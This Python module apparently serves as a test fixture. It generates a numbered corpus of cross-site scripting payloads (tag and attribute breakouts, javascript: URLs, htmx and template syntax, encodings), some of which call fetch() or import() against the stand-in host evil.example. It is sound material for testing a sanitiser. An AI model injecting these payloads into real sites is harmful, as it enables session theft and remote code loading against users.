"""A corpus of script-injection payloads (>= 200, all distinct).

Each payload would, if it ran, call ``alert``, the page's sentinel ``__xss``, or reach the outside
host ``evil.example`` (a fetch, an import, an image, a style sheet, a form, a frame). ``ACT``
stands for the action and ``N`` for the payload's number, so a hit says which payload it was.
"""

from __future__ import annotations

__all__ = ["EVIL_HOST", "payloads"]

EVIL_HOST = "evil.example"

# Vectors with an action: markup, attribute and context breakouts, encodings, template and
# framework syntax (HTMX attributes included: the studio loads htmx), Markdown links, SSE framing.
_ACTIVE = [
    "<script>ACT</script>",
    "<img src=x onerror=ACT>",
    "<svg onload=ACT>",
    "<svg/onload=ACT>",
    "<svg><script>ACT</script></svg>",
    "<body onload=ACT>",
    '<iframe src="javascript:ACT"></iframe>',
    '<iframe srcdoc="<script>ACT</script>"></iframe>',
    '<a href="javascript:ACT">click</a>',
    '"><script>ACT</script>',
    "'><img src=x onerror=ACT>",
    "</textarea><script>ACT</script>",
    "</title><script>ACT</script>",
    "</script><script>ACT</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=ACT>",
    "<details open ontoggle=ACT>",
    "<video><source onerror=ACT></video>",
    "<audio src=x onerror=ACT>",
    "<input autofocus onfocus=ACT>",
    "<select autofocus onfocus=ACT></select>",
    "<marquee onstart=ACT>m</marquee>",
    '<object data="javascript:ACT"></object>',
    '<embed src="javascript:ACT">',
    '<meta http-equiv="refresh" content="0;url=javascript:ACT">',
    "{{constructor.constructor('ACT')()}}",
    "${ACT}",
    '<div hx-on:load="ACT" hx-get="/" hx-trigger="load">h</div>',
    '<div hx-on::before-request="ACT" hx-get="/" hx-trigger="load">h</div>',
    '<img src=x hx-on:htmx:load="ACT">',
    "javascript:ACT",
    "data:text/html,<script>ACT</script>",
    "[click me](javascript:ACT)",
    "<scr<script>ipt>ACT</scr</script>ipt>",
    "<IMG SRC=JaVaScRiPt:ACT>",
    "<img src=`javascript:ACT`>",
    '<body background="javascript:ACT">',
    "<x onclick=ACT>click</x>",
    '<noscript><p title="</noscript><img src=x onerror=ACT>">',
    '"onmouseover="ACT',
    "' onfocus='ACT' autofocus='",
    '<!--<img src="--><img src=x onerror=ACT//">',
    "<template><script>ACT</script></template>",
    "<form><button formaction=javascript:ACT>go</button></form>",
    "<isindex type=image src=1 onerror=ACT>",
    "\u003cimg src=x onerror=ACT\u003e",
    "&lt;img src=x onerror=ACT&gt;",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(N)>",
    "<svg><animate onbegin=ACT attributeName=x dur=1s>",
    "<style onload=ACT></style>",
    '\nevent: done\ndata: {"url": "javascript:ACT"}\n\n',
    "</pre><script>ACT</script><pre>",
    '<div id="variants" data-done="1"><a id="open-draft" href="javascript:ACT">x</a></div>',
]
_ACTIONS = [
    "alert(N)",
    "__xss(N)",
    f"fetch('//{EVIL_HOST}/f/N')",
    f"import('//{EVIL_HOST}/m/N.js')",
]
# Vectors that would only reach the outside host.
_PASSIVE = [
    f'<img src="http://{EVIL_HOST}/i/N.png">',
    f'<link rel=stylesheet href="http://{EVIL_HOST}/c/N.css">',
    f"<style>@import 'http://{EVIL_HOST}/s/N.css';</style>",
    f'<base href="http://{EVIL_HOST}/b/N/">',
    f'<form action="http://{EVIL_HOST}/form/N"><button>x</button></form>',
    f"![img](http://{EVIL_HOST}/md/N.png)",
    f'<table background="http://{EVIL_HOST}/t/N.png"><tr><td>x</td></tr></table>',
    f'<div style="background:url(http://{EVIL_HOST}/u/N.png)">x</div>',
    f"<SCRIPT SRC=http://{EVIL_HOST}/js/N.js></SCRIPT>",
    f'<iframe src="http://{EVIL_HOST}/if/N"></iframe>',
    f'<video poster="http://{EVIL_HOST}/v/N.png"></video>',
    f'<object data="http://{EVIL_HOST}/o/N.swf"></object>',
]


def payloads() -> list[str]:
    """Every payload, numbered in its text."""
    made = []
    for vector in _ACTIVE:
        for action in _ACTIONS:
            made.append(vector.replace("ACT", action))
    made += _PASSIVE
    out = [p.replace("N", str(i)) if "N" in p else p for i, p in enumerate(made)]
    return list(dict.fromkeys(out))
